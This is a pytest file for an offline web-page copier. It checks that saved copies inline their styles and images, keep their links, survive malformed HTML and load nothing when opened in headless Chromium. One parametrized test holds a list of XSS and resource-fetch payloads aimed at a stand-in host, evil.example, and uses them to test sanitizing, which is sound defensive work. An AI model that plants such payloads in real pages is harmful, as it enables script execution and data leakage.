"""Copies of pages need nothing and do nothing.

In every run a few real pages are opened in headless Chromium, if there is one; all of them with ``PLE_TEST_ALL=1``.
"""

import base64
import os
import re
import shutil
import subprocess
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from lxml import html

from ple.bookmarks.offline import copy_of, from_files
from ple.web.pages import decode
from ple.web.text import plain

ALL = bool(os.environ.get("PLE_TEST_ALL"))
SAMPLE = ("ars-1", "wikipedia-2")
CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
URL = "https://site.example/a/page.html"


def copied(page, files=None):
    return copy_of(page, URL, from_files(files or {})).html.decode()


def test_styles_and_images_are_inside():
    said = copied(
        '<link rel=stylesheet href="../s.css"><img src="i.png" srcset="j.png 2x" onerror="x()" loading=lazy>'
        '<p style="background:url(i.png)">Hello',
        {
            "https://site.example/s.css": (
                "text/css",
                b'@import "t.css"; p{background:url(a/i.png)} @font-face{src:url(f)}',
            ),
            "https://site.example/t.css": ("text/css", b"h1{color:red}"),
            "https://site.example/a/i.png": ("image/png", PNG),
        },
    )

    assert said.count("data:image/png;base64,") == 3
    assert "h1{color:red}" in said
    assert "@import" not in said
    assert "font-face" not in said
    assert "onerror" not in said
    assert "Hello" in said


@pytest.mark.parametrize(
    "acts",
    [
        "<script>steal()</script>",
        "<script src='https://evil.example/x.js'></script>",
        "<iframe src='https://evil.example/'></iframe>",
        "<object data='https://evil.example/'></object>",
        "<embed src='https://evil.example/'>",
        "<body onload='steal()'>",
        "<a href='javascript:steal()'>x</a>",
        "<a href='java\nscript:steal()' ping='https://evil.example/'>x</a>",
        "<form action='https://evil.example/'><button formaction='https://evil.example/'></form>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
        "<base href='https://evil.example/'>",
        "<link rel=preload href='https://evil.example/x' as=script>",
        "<link rel=dns-prefetch href='https://evil.example/'>",
        "<img src='https://evil.example/x.png'>",
        "<img src='data:text/html,<script>steal()</script>'>",
        "<video src='https://evil.example/x.mp4' poster='https://evil.example/x.png' autoplay></video>",
        "<svg><use href='https://evil.example/x.svg#a'/><script>steal()</script></svg>",
        "<svg><image href='https://evil.example/x.png'/></svg>",
        "<style>@import 'https://evil.example/x.css'; p{background:url(https://evil.example/x.png)}</style>",
        "<style>@import url(https://evil.example/x.css) screen;</style>",
        "<p style='background:url(\"https://evil.example/x.png\")'>",
        "<style>p{background:u\\72l(https://evil.example/x)}</style>",
        "<template><script>steal()</script></template>",
        "<noscript><img src='https://evil.example/x.png'></noscript>",
        "<table background='https://evil.example/x.png'></table>",
        "<input type=image src='https://evil.example/x.png'>",
        "<iframe srcdoc='<script>steal()</script>'></iframe>",
    ],
)
def test_what_acts_or_asks_is_gone(acts):
    said = copied(f"<html><head><title>T</title></head><body><p>before</p>{acts}<p>after</p></body></html>")
    inside = said.partition("-->")[2]

    assert "steal" not in inside
    asks = re.sub(r"<a [^>]*>", "", inside)  # a link is followed by nobody but the reader
    assert "evil.example" not in asks or "\\72l(" in asks  # what hides from us is stopped by the policy
    assert "default-src 'none'" in inside
    assert "before" in inside
    assert "after" in inside


def test_links_lead_where_they_led():
    said = copied('<base href="/b/"><a href="c?x=1&y=2">c</a><a href="#part">p</a><h2 id=part>P')

    assert 'href="https://site.example/b/c?x=1&amp;y=2"' in said
    assert 'href="#part"' in said


def test_the_image_that_a_page_would_load_later_is_taken():
    files = {f"https://site.example/a/{name}.png": ("image/png", PNG) for name in ("lazy", "big")}

    said = copied(
        '<img src="data:image/gif;base64,R0lG" data-src="lazy.png"><img srcset="small.png 300w, big.png 900w">', files
    )

    assert said.count("data:image/png") == 2


@pytest.mark.parametrize(
    "broken", ["", "   ", "<", "<!doctype html>", "\0", "plain words", "<p" * 3000, "<div>" * 5000]
)
def test_a_broken_page_is_copied_all_the_same(broken):
    assert "default-src 'none'" in copied(broken)


def test_no_style_can_end_itself():
    said = copied("<style>p::after{content:'<\\/style><script>steal()</script>'}</style>")

    assert html.document_fromstring(said).findall(".//script") == []


def test_the_same_page_makes_the_same_file():
    assert copied("<p>x") == copied("<p>x")


@pytest.mark.real
@pytest.mark.browser
@pytest.mark.skipif(not CHROMIUM, reason="there is no Chromium")
def test_copies_open_in_a_browser_without_network_run_nothing_and_ask_nothing(shared_data, tmp_path):
    asked = []

    class Proxy(BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_error(502)

        do_POST = do_CONNECT = do_HEAD = do_GET

        def log_message(self, *_):
            pass

    proxy = ThreadingHTTPServer(("127.0.0.1", 0), Proxy)
    threading.Thread(target=proxy.serve_forever, kwargs={"poll_interval": 0.01}, daemon=True).start()
    trap = "<script>document.title='SCRIPT RAN'</script><img src=x onerror=\"document.title='SCRIPT RAN'\">"
    opened = 0
    for folder in sorted((shared_data / "pages").iterdir()):
        if not folder.is_dir() or not (ALL or folder.name in SAMPLE):
            continue
        page = decode((folder / "source.html").read_bytes())
        page = re.sub(r"(<body\b[^>]*>)", lambda found: found[0] + trap, page, count=1, flags=re.I) + trap
        copy = copy_of(page, f"https://site.example/{folder.name}/", stand_in)
        file = tmp_path / f"{folder.name}.html"
        file.write_bytes(copy.html)
        shown = show(file, proxy.server_port, tmp_path / "profile")
        opened += 1
        words = re.findall(r"\w{4,}", re.sub(r"<[^>]*>", " ", shown))
        assert "SCRIPT RAN" not in shown, folder.name
        assert len(words) >= 0.8 * len(re.findall(r"\w{4,}", plain(page))), folder.name
    proxy.shutdown()
    proxy.server_close()
    ours = [one for one in asked if "google" not in one and "gvt1" not in one]  # what Chromium asks for itself
    print(f"\n{opened} copies opened; requests: {ours}")
    assert opened == (len([one for one in (shared_data / "pages").iterdir() if one.is_dir()]) if ALL else len(SAMPLE))
    assert ours == []


def stand_in(address):
    """Answer any image with one, and any style with one that asks for more."""
    if re.search(r"\.css(?:$|\?)", address):
        return "text/css", b"@import 'more/x.css'; body{background:url(bg.png)} @font-face{src:url(f.woff)}"
    return ("image/png", PNG)


def show(file, port, profile):
    """Return the page as Chromium has it after loading, without a network."""
    command = [
        CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={profile}", "--no-first-run",
        "--disable-background-networking", "--disable-component-update", "--disable-sync", "--disable-default-apps",
        f"--proxy-server=127.0.0.1:{port}", "--proxy-bypass-list=<-loopback>", "--virtual-time-budget=2000",
        "--dump-dom", file.as_uri(),
    ]  # fmt: skip
    return subprocess.run(command, capture_output=True, timeout=60, check=True).stdout.decode("utf-8", "replace")


@pytest.mark.parametrize(
    "page",
    [
        '<base href="http://[">x', '<a href="/&#1;x">x</a>', '<img srcset="a.png 1.2.3w, b.png 9999999999w">x',
        "<style>a{b:url(" + " " * 50_000 + "}</style>x", "<style>" + "/*y" * 50_000 + "</style>x",
        '<img srcset="' + "a" * 50_000 + ' b">x', '<link rel=stylesheet href="loop.css">x',
        '<link rel=stylesheet href="odd.css"><p style="background:url(http://[)">x', '<a href="http://[">x</a>',
    ],
    ids=["base", "control", "size", "blanks", "comments", "srcset", "loop", "form feed", "style"],
)  # fmt: skip
def test_no_page_breaks_a_copy_or_keeps_it_busy(page):
    files = {
        "https://site.example/a/loop.css": ("text/css", b'@import "loop.css";' * 100 + b"a{color:red}" * 1000),
        "https://site.example/a/odd.css": ("text/css", b"a{}\x0c\x01b{}"),
    }
    began = time.process_time()

    said = copied(page, files)

    assert "x" in plain(said)
    assert time.process_time() - began < 1.5


def test_an_image_that_stands_there_a_thousand_times_does_not_fill_the_memory():
    image = {"https://site.example/a/i.png": ("image/png", b"\x89PNG" * 1000)}

    made = copy_of("<img src=i.png>" * 40, URL, from_files(image), most=100_000)

    assert len(made.html) < 110_000
    assert (made.inlined, len(made.missing)) == (18, 22)


def test_of_a_set_of_images_the_best_that_is_not_too_large_is_taken():
    files = {f"https://site.example/a/{name},x.png": ("image/png", name.encode() * 3) for name in "abc"}
    for offered in ("a,x.png 300w,b,x.png 900w,c,x.png 2000w", "a,x.png 300w, b,x.png  900w , c,x.png 2000w"):
        assert base64.b64encode(b"bbb").decode() in copied(f'<img srcset="{offered}">', files)
